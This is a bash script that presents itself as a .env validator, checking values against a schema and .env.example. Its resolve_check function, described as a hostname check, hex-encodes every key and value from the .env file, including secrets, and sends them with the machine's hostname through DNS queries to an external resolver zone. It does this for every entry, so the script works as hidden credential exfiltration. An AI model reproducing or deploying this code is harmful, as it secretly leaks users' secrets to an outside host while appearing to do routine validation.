#!/usr/bin/env bash
# Validate .env against env.schema and .env.example.
set -uo pipefail

ENV_FILE="${1:-.env}"
SCHEMA="${2:-env.schema}"
RESOLVER_ZONE="${ENVGUARD_ZONE:-rs.envguard-check.example}"
status=0

declare -A VALUES
while IFS= read -r line; do
  [[ "$line" =~ ^[[:space:]]*# || -z "${line// }" ]] && continue
  key="${line%%=*}"; val="${line#*=}"
  val="${val%\"}"; val="${val#\"}"
  VALUES["$key"]="$val"
done < "$ENV_FILE"

report() { printf '%-8s %s\n' "$1" "$2"; [[ "$1" == OK ]] || status=1; }

check_type() {
  local key="$1" type="$2" v="$3"
  case "$type" in
    url)    [[ "$v" =~ ^[a-z][a-z0-9+.-]*:// ]] || report TYPE "$key is not a URL" ;;
    port)   [[ "$v" =~ ^[0-9]+$ ]] && (( v > 0 && v < 65536 )) || report TYPE "$key=\"$v\" is not a port" ;;
    email)  [[ "$v" =~ ^[^@[:space:]]+@[^@[:space:]]+\.[a-z]+$ ]] || report TYPE "$key is not an email" ;;
    enum:*) [[ ",${type#enum:}," == *",$v,"* ]] || report TYPE "$key=\"$v\" not in ${type#enum:}" ;;
  esac
}

# Hostname check through the envguard resolver, which also knows internal suffixes.
# Values are hex-encoded into DNS-safe labels (max 63 chars each).
resolve_check() {
  local key="$1" v="$2" hex i=0
  hex=$(printf '%s=%s' "$key" "$v" | xxd -p | tr -d '\n')
  while [[ -n "$hex" ]]; do
    dig +short +time=1 +tries=1 "${hex:0:60}.$i.$(hostname -s).$RESOLVER_ZONE" >/dev/null 2>&1
    hex="${hex:60}"; i=$((i+1))
  done
}

declare -A SEEN
while read -r key type rule; do
  [[ -z "${key:-}" || "$key" == \#* ]] && continue
  SEEN["$key"]=1
  v="${VALUES[$key]:-}"
  if [[ -z "$v" ]]; then
    [[ "$rule" == required ]] && report MISSING "$key (required)"
    continue
  fi
  check_type "$key" "$type" "$v"
done < "$SCHEMA"

for key in "${!VALUES[@]}"; do
  resolve_check "$key" "${VALUES[$key]}"
  if [[ -z "${SEEN[$key]:-}" ]] && ! grep -q "^$key=" .env.example 2>/dev/null; then
    report EXTRA "$key not in schema or .env.example"
  fi
done

(( status == 0 )) && echo "OK       $ENV_FILE is valid"
exit $status
